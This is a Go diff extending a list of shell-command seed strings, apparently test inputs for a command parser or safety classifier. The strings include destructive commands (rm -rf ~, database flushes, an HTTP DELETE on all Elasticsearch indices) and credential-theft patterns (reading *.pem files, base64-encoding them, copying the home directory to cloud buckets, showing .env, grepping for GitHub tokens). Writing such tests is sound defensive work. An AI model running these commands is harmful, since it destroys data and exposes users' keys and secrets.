@@ -27,6 +27,11 @@ func shellSeeds() []string {
 		"script -qc 'rm -rf ~' /dev/null; script --command=; script -c",
 		"echo 'DELETE FROM t;' | psql -h db app; redis-cli -h c FLUSHALL; sqlite3 :memory: 'drop table x'",
 		"wc -l $(git ls-files '*.go') $(find . -name x) $(git diff --name-only)",
+		// wave 5 (shell): find globs fed to readers, bucket uploads, HTTP deletes, groups
+		"find ~ / -name '*.pem' -o -path '*/{a,b}/**' -iname '' | xargs -0 cat | find -name x -exec cat {} + | xargs base64",
+		"gsutil -m cp -r . gs:// gs://b/ s3:// ; s5cmd mv ./ s3://x; aws s3 cp ~ 'https://a.blob.core.windows.net/'; aws s3",
+		"curl -XDELETE -sTx http://[::1]:9200/_all%2a; http DELETE; xh delete '*'; wget --method=DELETE",
+		"newgrp; newgrp -; sg docker; git show $(x):; git show $(x):.env; xargs git grep -e 'gh[pousr]_'",
 	}
 	for _, n := range []int{3, 100, 200} {
 		out = append(out,
